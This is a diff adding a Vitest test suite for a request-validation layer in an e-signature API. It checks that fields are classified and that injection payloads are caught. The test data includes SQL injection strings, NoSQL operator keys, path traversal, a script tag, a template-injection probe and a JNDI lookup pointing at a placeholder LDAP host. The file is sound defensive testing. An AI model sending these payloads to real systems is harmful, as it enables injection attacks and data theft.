@@ -1,0 +1,82 @@
+import { type Operation, operations } from '@countersign/contract';
+import { describe, expect, it } from 'vitest';
+import { z } from 'zod';
+import { judgeValue, operationShape, queryPlace, shapeOf } from './values.ts';
+
+const all: readonly Operation[] = Object.values(operations);
+const none = () => undefined;
+const judged = (id: keyof typeof operations, part: 'params' | 'query' | 'body' | 'form', value: unknown) =>
+  judgeValue(value, operationShape(operations[id])[part], part, none);
+
+const PAYLOAD = "' OR '1'='1' --";
+const ID = `doc_${'0'.repeat(26)}`;
+
+describe('the class of a field', () => {
+  it('is declared for every text of every operation', () => {
+    const unclassified: string[] = [];
+    for (const { id, params, query, body } of all) {
+      const told = (path: string) => unclassified.push(`${id}${path}`);
+      for (const schema of [
+        params,
+        query,
+        body?.kind === 'json' ? body.schema : body?.json,
+        body?.kind === 'multipart' ? body.fields : undefined,
+      ])
+        if (schema) shapeOf(schema, told);
+    }
+    expect(unclassified).toEqual([]);
+  });
+
+  it('is missing for a text that declares none', () => {
+    const unclassified: string[] = [];
+    shapeOf(z.object({ a: z.array(z.object({ b: z.string() })) }), (path) => unclassified.push(path));
+    expect(unclassified).toEqual(['.a[].b']);
+  });
+
+  it('lets whatever is opaque pass: passwords, tokens, patterns, anchors', () => {
+    expect(judged('login', 'body', { email: 'anna@example.com', password: PAYLOAD })).toBeUndefined();
+    expect(judged('confirmEmailChange', 'body', { token: PAYLOAD })).toBeUndefined();
+    const field = { kind: 'text', validation: { pattern: '(a|b)+$(id)`id`' }, anchor: { text: '{{7*7}}' } };
+    expect(judged('sendForSigning', 'body', { signers: [], fields: [field] })).toBeUndefined();
+    expect(queryPlace(operationShape(operations.getDocumentPlacements), 'anchor')).toBeUndefined();
+  });
+
+  it('lets an id pass only in its own form', () => {
+    expect(judged('getDocument', 'params', { id: ID })).toBeUndefined();
+    expect(judged('getDocument', 'params', { id: `${ID}' OR 1=1--` })?.ruleId).toBe('sql-breakout');
+  });
+
+  it('judges prose by what it would do, and says where it was', () => {
+    expect(
+      judged('updateDocument', 'body', { title: `O'Brien & Sons -- "select" terms <draft>; drop by` }),
+    ).toBeUndefined();
+    expect(judged('updateDocument', 'body', { title: PAYLOAD })).toMatchObject({
+      ruleId: 'sql-breakout',
+      field: 'body.title',
+    });
+    expect(judged('listDocuments', 'query', { search: 'See ../annex' })).toBeUndefined();
+    expect(judged('listDocuments', 'query', { sortBy: '../annex' })?.ruleId).toBe('path-traversal');
+  });
+
+  it('judges names of members, and members that the contract does not know', () => {
+    expect(judged('updateDocument', 'body', { $where: '1' })?.ruleId).toBe('operator-key');
+    expect(judged('updateDocument', 'body', { unknown: { deep: [PAYLOAD] } })?.ruleId).toBe('sql-breakout');
+    expect(judged('login', 'body', { email: { $ne: null }, password: 'x' })?.ruleId).toBe('operator-key');
+  });
+
+  it('reads the JSON in a part of a form by the contract of what is in it', () => {
+    const roles = JSON.stringify([{ name: "Buyer's agent", order: 1 }]);
+    expect(judged('createTemplate', 'form', { roles })).toBeUndefined();
+    expect(
+      judged('createTemplate', 'form', { roles: JSON.stringify([{ name: '<script>alert(1)</script>' }]) })?.ruleId,
+    ).toBe('script-tag');
+  });
+
+  it('judges every row of a bulk send as prose', () => {
+    const rows = [{ 'Buyer.email': 'a@example.com', Note: "O'Neil; see <annex>" }];
+    expect(judged('checkBulkSend', 'body', { rows })).toBeUndefined();
+    expect(judged('checkBulkSend', 'body', { rows: [{ Note: '${jndi:ldap://a.example/x}' }] })?.ruleId).toBe(
+      'lookup-jndi',
+    );
+  });
+});
